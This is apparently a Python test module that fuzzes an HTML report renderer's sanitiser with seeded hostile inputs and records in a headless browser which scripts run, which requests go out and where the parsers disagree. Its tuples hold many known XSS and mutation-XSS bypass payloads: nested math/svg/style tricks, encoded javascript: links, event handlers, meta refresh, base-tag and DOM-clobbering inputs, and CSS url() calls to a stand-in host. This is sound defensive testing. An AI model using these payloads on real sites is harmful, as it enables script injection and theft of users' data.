"""Hostile texts by the thousand, the same for one seed: values of a database, and what a model could submit.

Each tries to bring a script, a request or a navigation to a page; a script that runs calls ``ran()``. They are put
together of what is known to have got through sanitisers, and of what parsers are known to differ on.
"""

import json
import random
import re
from collections.abc import Iterator, Sequence
from dataclasses import dataclass, replace

from markupsafe import Markup
from playwright.sync_api import Browser, Dialog, Route
from selectolax.lexbor import LexborHTMLParser, LexborNode

from cataloger_dagster.facts import Facts
from cataloger_dagster.report.catalog import catalog_page
from cataloger_dagster.report.detail import levels
from cataloger_dagster.report.elements import View
from cataloger_dagster.report.frame import framed, shown
from cataloger_dagster.report.narrative import read
from cataloger_dagster.report.prose import Prose, Section
from tests import samples

RUN = ("ran()", "top.ran()", "alert(1)", "location='https://x.test/'", "fetch('https://x.test/')", "ran&#40;&#41;")
REQUEST = ("https://x.test/a.png", "//x.test/b", "http://x.test/c", "data:text/html,<script>ran()</script>")
REQUEST += ("javascript:ran()", "java\tscript:ran()", " javascript:ran()", "JaVaScRiPt:ran()", "&#106;avascript:ran()")
REQUEST += ("vbscript:ran()", "blob:x", "file:///etc/passwd", "data:image/svg+xml,<svg onload=ran()>", "\\\\x.test\\d")
ELEMENTS = tuple(
    """
    a abbr address annotation-xml applet area article audio b base bdo big blink body br button canvas caption center
    code col colgroup data datalist dd del desc details dialog div dl dt em embed fieldset figure font foreignObject
    form frame frameset g h1 h2 head hr html i iframe image img input ins isindex kbd keygen label legend li link
    listing main map mark marquee math menu meta mglyph mi mn mo ms mtext nav nobr noembed noframes noscript object ol
    optgroup option output p param path picture plaintext portal pre progress rb rp rt ruby s script section select
    set slot small source span strike style sub summary sup svg table tbody td template text textarea tfoot th thead
    time title tr track tt u ul use var video wbr xmp xss fact-value fact-table fact-chart fact-relations fact-findings
    """.split()  # noqa: SIM905
)
ATTRIBUTES = tuple(
    """
    onclick onload onerror onfocus onmouseover ontoggle onbegin onanimationstart onpointerenter src href xlink:href
    action formaction data srcdoc srcset poster background style cite ping manifest longdesc lowsrc dynsrc codebase
    archive classid profile usemap icon content http-equiv id name class data-for ref data-claim target download
    autofocus accesskey slot is nonce encoding definitionurl values from to attributename contenteditable title
    imagesrcset attributionsrc popovertarget formtarget fill filter mask clip-path marker-end cursor actiontype
    shadowrootmode rel charset begin xml:base xmlns xmlns:xlink role aria-label tabindex colspan rowspan open start
    """.split()  # noqa: SIM905
)
STYLES = (
    "background:url(https://x.test/e)",
    "position:fixed;inset:0;z-index:9",
    "width:expression(ran())",
    "@import 'https://x.test/f'",
    "b\\61 ckground:u\\72l(https://x.test/g)",
    "-moz-binding:url(https://x.test/h)",
    "color:red",
    "background:image-set('https://x.test/k' 1x)",
    "background:-webkit-image-set(url(https://x.test/l) 1x)",
    "background:-webkit-cross-fade(url(https://x.test/m),url(https://x.test/n),50%)",
    "position:sticky;top:0;height:100vh",
    "list-style:url(//x.test/o);cursor:url(//x.test/p),auto;filter:url(//x.test/q#f);mask:url(//x.test/r)",
    "width:5%;background:url(//x.test/s)",
    "width:5%}*{display:none",
    "content:url(//x.test/t);behavior:url(//x.test/u)",
    "transform:translate(-50vw,-50vh) scale(99)",
)
HARMFUL = (
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=ran()&gt;">',
    '<svg></p><style><a id="</style><img src=1 onerror=ran()>">',
    '<noscript><p title="</noscript><img src=x onerror=ran()>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=ran()>",
    "<table><a href=x><table><a href=y>b</a></table></a></table>",
    "<svg><foreignobject><math><mi><style><img src=x onerror=ran()></style>",
    '<math><annotation-xml encoding="text/html"><script>ran()</script></annotation-xml></math>',
    "<select><template><style><img src=x onerror=ran()></style></template></select>",
    '<xmp><p title="</xmp><img src=x onerror=ran()>">',
    '<textarea><p title="</textarea><svg onload=ran()>">',
    '<title><p title="</title><svg onload=ran()>">',
    "<svg><title><p><style><!--</style></p></title><img src=x onerror=ran()>--></svg>",
    '<svg><a xlink:href="javascript:ran()"><text y=20>x</text></a></svg>',
    "<svg><animate onbegin=ran() attributeName=x dur=1s></svg>",
    '<svg><use href="data:image/svg+xml,<svg id=x onload=ran()></svg>#x"></svg>',
    "<details open ontoggle=ran()><summary>x</summary></details>",
    '<meta http-equiv=refresh content="0;url=https://x.test/">',
    '<base href="https://x.test/"><a href="a">x</a>',
    '<link rel=stylesheet href="https://x.test/s.css"><link rel=prefetch href="https://x.test/p">',
    '<iframe srcdoc="<script>parent.ran()</script>"></iframe>',
    '<object data="data:text/html,<script>ran()</script>"></object><embed src="https://x.test/e">',
    '<form id=x action="javascript:ran()"><button>x</button></form><button form=x formaction="javascript:ran()">y',
    "<img src=x onerror=ran()><image href=x onerror=ran()><input autofocus onfocus=ran()>",
    '<video poster="https://x.test/v"><source src=x onerror=ran()></video><audio src="https://x.test/w" autoplay>',
    "<style>@import 'https://x.test/i';*{background:url(https://x.test/j)}</style>",
    '<script type="application/json" id="cataloger">{"format":1}</script>',
    '<data value=1 data-claim="flights.rows">1</data>',
    '<div style="position:fixed;inset:0;background:#fff">covers</div>',
    "<style>@import url(//x.test/v) layer(a);@font-face{font-family:a;src:url(//x.test/w)}*{font-family:a}</style>",
    "<style>p{background:image-set('https://x.test/y' 1x)}</style><p>x</p>",
    "<style>/*</style><img src=x onerror=ran()>*/</style>",
    "<svg><style><![CDATA[</style><img src=x onerror=ran()>]]></style></svg>",
    "<svg><script href=https://x.test/z.js /><script>ran()</script></svg>",
    '<svg><image href="https://x.test/aa"/><feImage href="https://x.test/ab"/></svg>',
    '<svg><rect fill="url(https://x.test/ac#a)" filter="url(https://x.test/ad#b)" width=9 height=9 /></svg>',
    '<svg><a><set attributeName=href to="javascript:ran()"/><text y=9>x</text></a></svg>',
    '<svg><a><animate attributeName=href values="javascript:ran()"/><text y=9>x</text></a></svg>',
    '<math href="javascript:ran()"><mi>x</mi></math>',
    '<math><maction actiontype="statusline#https://x.test" xlink:href="javascript:ran()">x</maction></math>',
    "<math><mtext><mglyph><svg><mtext><style><path id='</style><img onerror=ran() src>'>",
    "<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title='</style><img src onerror=ran()>'></h1>",
    '<svg><desc><table><svg><style><a id="</style><img src=x onerror=ran()>">',
    "<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id='</textarea><img onerror=ran() src>'>",
    "<table><tr><td><svg><title><table><tr><td><img src=x onerror=ran()></svg>",
    "<noscript><style></noscript><img src=x onerror=ran()></style>",
    "<noembed><p title='</noembed><img src=x onerror=ran()>'>",
    "<noframes><p title='</noframes><img src=x onerror=ran()>'>",
    "<template><p title='</template><img src=x onerror=ran()>'></template><script>ran()</script>",
    "<iframe><p title='</iframe><img src=x onerror=ran()>'>",
    "<!--><img src=x onerror=ran()>-->",
    "<!---><img src=x onerror=ran()>-->",
    "<!-- x --!><img src=x onerror=ran()>",
    "<![CDATA[><img src=x onerror=ran()>]]>",
    "<?php ?><img src=x onerror=ran()>",
    "<p title=`x` onmouseover=ran()>x</p>",
    "<p title='x'onmouseover='ran()'>x</p>",
    "<p/onclick=ran()/>x",
    "<p\x0conclick=ran()>x</p>",
    "<img srcset='https://x.test/ae 1x' sizes=1px>",
    "<picture><source srcset=https://x.test/af><img></picture>",
    "<link rel=preload as=image imagesrcset='https://x.test/ag 1x'>",
    "<link rel=icon href=https://x.test/ah><link rel=dns-prefetch href=//x.test>",
    "<body background=https://x.test/ai><table background=https://x.test/aj><tr><td background=//x.test/ak>x</table>",
    "<input type=image src=https://x.test/al><button popovertarget=a>x</button><div popover id=a>y</div>",
    "<video src=https://x.test/am autoplay></video><track src=https://x.test/an>",
    "<meta http-equiv=Content-Security-Policy content='default-src *'><meta http-equiv=set-cookie content=a=b>",
    "<form name=body><input name=firstChild></form><img name=getElementById><a id=location href=x>y</a>",
    "<a href=#x ping=https://x.test/ao target=_blank download>x</a>",
    "<p><a href='https://x.test/ap'>x</a></p>",
    "<p><a href='data:text/html,<script>ran()</script>'>x</a></p>",
    "<p><a href='&#x6a;avascript&colon;ran&lpar;&rpar;'>x</a></p>",
    "<p><a href='\x01javascript:ran()'>x</a></p>",
    "<p><a href='java&Tab;script&NewLine;:ran()'>x</a></p>",
    "<blockquote cite='javascript:ran()' background=//x.test/aq>x</blockquote>",
    "<iframe src='data:text/html,<script>parent.ran()</script>'></iframe>",
    "<dialog open>x</dialog><marquee onstart=ran()>x</marquee><isindex action=javascript:ran() type=image>",
    "<details open><summary onclick=ran()>x</summary></details>",
    "<select><option><svg onload=ran()></option></select>",
    "<script\x00>ran()</script><scr\x00ipt>ran()</scr\x00ipt><p on\x00click=ran()>x</p>",
)
OPEN = (
    "<p id=cataloger>x</p><p id=page-main>y</p><p id=query-q1>z</p><a href=#cataloger>c</a><form name=body></form>",
    "<plaintext>", "<!--", "<![CDATA[", "<textarea>", "<title>", "<script>", "<style>", "<frameset>", "</body></html>",
    "<p data-for='flights.dest'><script>ran()</script>",
    "<template shadowrootmode=open><script>ran()</script></template>",
    "{{ 7 * 7 }}{% raw %}", "<p>\ud800 \udfff\ufffe\x00\x0b", "<a href='#%22%3E%3Cscript%3Eran()%3C/script%3E'>x</a>",
)  # fmt: skip
OPEN += (
    "<frameset onload=ran()><frame src=https://x.test/ar></frameset>",
    "<p id='&quot;><img src=x onerror=ran()>'>x</p><p><a href='#&quot;><img src=x onerror=ran()>'>x</a></p>",
    "<p id=location>x</p><p id=documentElement>y</p><p id=body>z</p><p id=__proto__>a</p><p id=text-location>b</p>",
    "<p id=flights.dest>x</p><p id=flights>y</p><p id=page-top>z</p><p id=page-findings>a</p><p id=finding-x>b</p>",
    "<p id='%22cataloger%22'>x</p><p id=cataloger-overview>y</p><p><a href='#%2522cataloger%2522'>z</a></p>",
    "<fact-value ref='flights.rows'><script>ran()</script></fact-value><fact-value ref='&quot;><svg onload=ran()>'>",
    "<pre>\n\n&lt;/pre><img src=x onerror=ran()></pre><code></code &gt;<svg onload=ran()></code>",
    "<table><tr><td colspan=1000000000 rowspan=65534>x<td colspan=-1>y<td colspan='1 onclick=ran()'>z</table>",
    "<h2><fact-chart ref='flights.dest'></h2><p>x</p><h2>a</h2><h3><fact-chart ref='flights.dest'> b</h3><p>y</p>",
    "<div data-for=nowhere><p data-for=nothing>x</p><ol data-for='flights.dest'><li data-for=never>y</ol></div>",
    "<pre><span>\n\n</span>\n&lt;/pre></pre><pre>&#10;&#13;x</pre><pre>\r\r\n\ny</pre><pre><b></b>\n\nz</pre>",
    "<ol reversed='javascript:ran()' start=99999999999><li value=7>x</ol><details open='\" onclick=ran()'>y</details>",
)
WHOLE = HARMFUL + OPEN
# What a page may have, and what of it a model decides: most of what is put together of these is taken.
TAKEN = "p div section h1 h2 h3 h4 ul ol li dl dt dd table tbody tr td th caption blockquote pre details summary a"
TAKEN += " b code em span sub q cite samp time figure figcaption aside header nav mark font title"
WORDS = ("flights", "dest", "What this is", "Findings", "Open questions", "x", "7", "half", " ", "\n", "a < b")
WORDS += ("&lt;p>",)
PLACES = ("flights", "flights.dest", "location", "cataloger", "page-top", "body", "a b", "é", "%22", "text-x")
PLACES += ("&lt;svg onload=ran()>", "query-q1", "__proto__", "page-main", "\t", "&#10;x", "javascript:ran()", "a'b")
PLACES += ("`", "a&quot;b")
WRAPS = ("table", "svg", "math", "math><mtext", "svg><desc", "svg><foreignObject", "noscript", "template", "title")
WRAPS += ("select", "textarea", "xmp", "style", "p", "b", "a href=#flights", "pre", "ul", "details", "dl", "caption")
ENDS = ("", '"', "'", '">', "'>", "-->", "]]>", "</title>", "</style>", "</script>", "</textarea>", "</pre>", "</svg>")
ENDS += (
    "</noscript>",
    "`",
    "*/",
    "\\",
    "\u2028",
    "\x00",
    "\u202e",
    "&quot;>",
    "</data>",
    "</section>",
    "</td></table>",
)
PLAIN = (
    "a",
    "7",
    "12 %",
    "é",
    "東京",
    " ",
    "\n",
    "\t",
    "\r",
    "&",
    "&lt;",
    "&#x3c;",
    "<",
    ">",
    "=",
    "$(x)",
    "|",
    "`",
    "#",
)


def values(count: int, seed: int) -> list[str]:
    """Return *count* different values, none of them empty."""
    chance = random.Random(seed)
    found: dict[str, None] = {}
    while len(found) < count:
        end, rest = chance.choice(ENDS), chance.choice((_start_tag, _whole, _plain, _mutated))(chance)
        found.setdefault((end + rest).strip() or "x")
    return list(found)


def fragments(count: int, seed: int) -> list[str]:
    """Return *count* submissions: known ones first, then such as nobody has seen."""
    chance = random.Random(seed)
    found = list(WHOLE[:count])
    while len(found) < count:
        make = chance.choice((_loose, _mutated, _mutated, _taken, _taken))
        found.append(make(chance))
    return found


def _loose(chance: random.Random) -> str:
    """Tags and texts in any order."""
    kinds = (_start_tag, _start_tag, _end_tag, _whole, _plain)
    return "".join(chance.choice(kinds)(chance) for _ in range(chance.randint(1, 9)))


def _mutated(chance: random.Random) -> str:
    """A known trick, changed in a few places, or put into another."""
    text = chance.choice(WHOLE)
    for _ in range(chance.randint(1, 4)):
        first, last = sorted(chance.randrange(len(text) + 1) for _ in range(2))
        last = min(last, first + 12)
        piece = text[first:last]
        match chance.randrange(8):
            case 0:
                piece = ""
            case 1:
                piece += piece
            case 2:
                piece = "".join(chance.choice((f"&#{ord(c)};", f"&#x{ord(c):x}", c)) for c in piece)
            case 3:
                piece += chance.choice(("\x00", "\x0c", "\r", "\u2028", "\ufeff", "&NewLine;", "\x1b", "\ud83d", "<"))
            case 4:
                piece = piece.swapcase()
            case 5:
                piece += chance.choice(chance.choice((ENDS, WHOLE)))
            case 6:
                piece += _start_tag(chance)
            case 7:
                name = chance.choice(WRAPS)
                end = f"</{name.split('><')[-1].split()[0]}>" if chance.random() < 0.6 else ""
                text, piece, first, last = f"<{name}>{text}{end}", "", 0, 0
        text = text[:first] + piece + text[last:]
    return text


def _taken(chance: random.Random, depth: int = 0) -> str:
    """Markup of what a page may have, closed where it ends for the most part, with hostile texts in it."""
    name = chance.choice(_TAKEN)
    given = ""
    if chance.random() < 0.4:
        given = f" {chance.choice(('id', 'data-for', 'class', 'title', 'role', 'lang'))}={_quoted(chance)}"
    if name == "a":
        given = f" href={_quoted(chance, '#')}"
    inside = []
    for _ in range(chance.randint(1, 3)):
        if depth < 4 and chance.random() < 0.6:
            inside.append(_taken(chance, depth + 1))
        else:
            inside.append(chance.choice((*WORDS, *WORDS, _FACTS[chance.randrange(len(_FACTS))])))
    if chance.random() < 0.15:
        inside.append(chance.choice(WHOLE).replace("&", "&amp;").replace("<", "&lt;"))
    return f"<{name}{given}>{''.join(inside)}{f'</{name}>' if chance.random() < 0.95 else ''}"


_TAKEN = TAKEN.split()
_FACTS = ("<fact-value ref=flights.rows>", "<fact-value ref=flights.dest.distinct>", "<fact-chart ref=flights.dest>")


def _quoted(chance: random.Random, before: str = "") -> str:
    quote = chance.choice(("'", '"'))
    return quote + before + chance.choice(PLACES).replace(quote, f"&#{ord(quote)};") + quote


def _start_tag(chance: random.Random) -> str:
    name = chance.choice(ELEMENTS)
    if chance.random() < 0.2:
        name = "".join(chance.choice((c.upper(), c)) for c in name)
    given = [f"{chance.choice(ATTRIBUTES)}{_value(chance)}" for _ in range(chance.randint(0, 3))]
    return (
        f"<{chance.choice((' ', '/', chr(12), ' ')).join([name, *given])}{chance.choice(('>', '>', '/>', ' ', '>x'))}"
    )


def _end_tag(chance: random.Random) -> str:
    return f"</{chance.choice(ELEMENTS)}>"


def _value(chance: random.Random) -> str:
    value = chance.choice(chance.choice((RUN, REQUEST, STYLES, PLAIN, ("flights", "flights.rows", "refresh", "x"))))
    return chance.choice(("", "=", f"={value}", f'="{value}"', f"='{value}'", f"=`{value}`"))


def _whole(chance: random.Random) -> str:
    return chance.choice(WHOLE)


def _plain(chance: random.Random) -> str:
    return "".join(chance.choice(chance.choice((PLAIN, RUN, REQUEST))) for _ in range(chance.randint(1, 4)))


def page(facts: Facts, submissions: Sequence[str], small: Facts) -> str:
    """Return a page of *facts*, and after them what became of each of *submissions* about *small*."""
    whole = catalog_page(samples.run(), facts, None, {}, []).html
    inside = drawn(submissions, small).partition('<main id="page-main">')[2].partition('<section id="page-appendix"')[0]
    return whole.replace("</main>", f"{inside}</main>", 1)


def drawn(submissions: Sequence[str], facts: Facts) -> str:
    """Return one page about *facts* where each of *submissions* has sections of its own, called ``page-part…``."""
    told = Prose(sections=[section for n, one in enumerate(submissions) for section in _sections(n, one, facts)])
    detail, listed = next(levels(facts))
    view = View(listed, told, [], compared=False, detail=detail)
    sections = [shown(view, n, section, "Untitled", []) for n, section in enumerate(told.sections)]
    run = samples.run(previous=None)
    return framed("catalog", run, view, sections, order=[], named={}, changes=[], estimates={}).html


def _sections(number: int, submission: str, facts: Facts) -> Iterator[Section]:
    """Yield the sections of one submission; its ids and the links to them are told apart from those of the others."""
    prose = read(submission, facts, {})
    beside = [part for part in (prose.lede, *prose.meanings.values(), *prose.purposes.values()) if part]
    for section in [*prose.sections, Section(None, Markup(""), list(beside))]:
        parts = [_numbered(part, number) for part in section.parts if isinstance(part, Markup)]
        title = _numbered(section.title, number)
        ids = [key.replace("text-", f"text-{number}-", 1) for key in section.ids]
        yield replace(section, key=None, title=title, parts=parts, ids=ids)


def _numbered(html: Markup, number: int) -> Markup:
    # A quote in a text or a value is escaped: this stands in attributes only.
    return Markup(re.sub(r' (id|href)="(#?)text-', rf' \1="\2text-{number}-', str(html)))


@dataclass
class Deeds:
    """What a page did in a browser.

    Scripts that ran, requests, navigations, dialogs and downloads and windows (others), and what could have come yet:
    attributes that run or lead somewhere (leading), and where the tree is not what our parser reads, or not what the
    browser itself reads in what it writes of it (misread).
    """

    ran: int
    requests: list[str]
    navigations: list[str]
    others: list[str]
    leading: list[str]
    misread: list[str]


def deeds(browser: Browser, html: str, address: str) -> Deeds:
    """Open *html* at *address*, without its content security policy, point at everything, and say what it did."""
    # The policy would stop what the page tries: here nothing may be tried.
    context = browser.new_context(bypass_csp=True, viewport={"width": 1280, "height": 900})
    context.add_init_script(_COUNTERS)
    tab = context.new_page()
    requests: list[str] = []
    visits: list[str] = []

    def answer(route: Route) -> None:
        requests.append(route.request.url)
        route.fulfill(status=200, body=html if route.request.url == address else "", content_type="text/html")

    tab.route("**", answer)
    tab.on("framenavigated", lambda frame: visits.append(frame.url))
    others: list[str] = []

    def dismiss(dialog: Dialog) -> None:
        others.append(dialog.message)
        dialog.dismiss()

    tab.on("dialog", dismiss)
    tab.on("download", lambda download: others.append(download.url))
    tab.on("popup", lambda window: others.append(window.url))
    tab.goto(address)
    misread = _misread(html, json.loads(tab.evaluate(_TREE))) if "<main" in html else []
    if not tab.evaluate(_IS_STABLE):
        misread.append("what the browser writes reads differently")
    tab.evaluate(_PROD)
    tab.wait_for_timeout(300)
    leading = tab.evaluate(_LEADING)
    found = Deeds(tab.evaluate("window.__ran"), requests[1:], visits[1:], others, leading, misread)
    context.close()
    return found


Tree = tuple[str, str, list[tuple[str, str]], list["Tree | str"]]
"""An element: its name, its namespace, its attributes sorted, its children; a comment is ``#8``."""


def _misread(html: str, theirs: Tree) -> list[str]:
    """Return where the browser's tree of a page's main part is not that of our parser."""
    main = LexborHTMLParser(html).css_first("main")
    assert main is not None
    return list(_differences(_tree(main, "xhtml"), theirs, ""))


def _tree(node: LexborNode, namespace: str) -> Tree:
    namespace = "svg" if node.tag == "svg" else namespace
    inside = "xhtml" if node.tag in ("title", "desc", "foreignobject") else namespace
    children: list[Tree | str] = []
    child = node.first_child
    while child is not None:
        if child.tag == "-text":
            children.append(child.text_content or "")
        else:
            children.append("#8" if (child.tag or "-").startswith("-") else _tree(child, inside))
        child = child.next
    return node.tag or "", namespace, sorted((name, value or "") for name, value in node.attributes.items()), children


def _differences(ours: Tree | str, theirs: Tree | str, place: str) -> Iterator[str]:
    if isinstance(ours, str) or isinstance(theirs, str):
        if ours != theirs:
            yield f"{place}: {ours!r}, {theirs!r}"
        return
    if [*ours[:2], [list(pair) for pair in ours[2]]] != theirs[:3] or len(ours[3]) != len(theirs[3]):
        yield f"{place}: {ours}, {theirs}"
        return
    for number, (one, other) in enumerate(zip(ours[3], theirs[3], strict=True)):
        yield from _differences(one, other, f"{place}/{ours[0]}[{number}]")


_TREE = """() => {
  const walk = e => [e.localName, e.namespaceURI.split("/").pop(),
    [...e.attributes].map(a => [a.name, a.value]).sort((a, b) => a[0] < b[0] ? -1 : 1),
    [...e.childNodes].map(c => c.nodeType === 1 ? walk(c) : c.nodeType === 3 ? c.data : "#" + c.nodeType)];
  return JSON.stringify(walk(document.querySelector("main")));
}"""
_IS_STABLE = """() => {
  const main = document.querySelector("main");
  if (!main) return true;
  const again = main.cloneNode(false);
  again.innerHTML = main.innerHTML;
  return again.isEqualNode(main);
}"""
_COUNTERS = """
window.__ran = 0;
window.ran = window.alert = window.prompt = window.confirm = () => { window.__ran++; };
"""
_PROD = """() => {
  for (const e of document.querySelectorAll("*"))
    for (const { name } of [...e.attributes].filter(a => a.name.startsWith("on")))
      e.dispatchEvent(new Event(name.slice(2)));
  document.querySelectorAll("details").forEach(e => { e.open = true; });
  window.scrollTo(0, document.body.scrollHeight);
}"""
_LEADING = """() => [...document.querySelectorAll("*")].flatMap(e => [...e.attributes].filter(a =>
  a.name.startsWith("on") ||
  ["src", "action", "formaction", "data", "srcdoc", "srcset", "poster", "background", "xlink:href"].includes(a.name) ||
  (a.name === "href" && new URL(a.value, document.baseURI).href !== location.href + a.value) ||
  (a.name === "style" && !/^width:[0-9.]+%$/.test(a.value))).map(a => e.tagName + " " + a.name + "=" + a.value))"""
